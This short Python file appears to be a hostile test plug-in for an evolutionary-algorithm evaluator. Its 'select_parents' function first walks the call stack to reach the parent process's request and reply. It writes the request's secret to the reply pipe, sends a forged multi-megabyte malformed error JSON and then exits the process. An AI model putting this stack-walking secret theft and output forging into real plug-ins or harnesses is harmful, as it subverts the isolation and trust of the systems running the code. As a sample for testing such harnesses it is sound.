# Tries to break the parent by a forged error with a type and a trace of megabytes.
import json
import os
import sys

from stock import select_parents as decide


def hostile_text():
    """Return a reply, without the secret word."""
    error = {"error_type": "E\r\n" * 300_000, "message": "\ud800\0" * 1000}
    error |= {"is_memory": False, "trace": [{"\x1b": "\x9b"}, 10**400, None] * 1000}
    return json.dumps({"error": error})


def attack():
    frame = sys._getframe()
    while frame and not {"request", "reply"} <= frame.f_locals.keys():
        frame = frame.f_back
    if frame is None or frame.f_locals["request"]["job"] != "evaluate":
        return

    text = f"{frame.f_locals['request']['secret']}{hostile_text()}".encode()
    while text:
        text = text[os.write(frame.f_locals["reply"], text) :]
    os._exit(0)


def select_parents(population, rng, cost_evaluator):
    attack()
    return decide(population, rng, cost_evaluator)
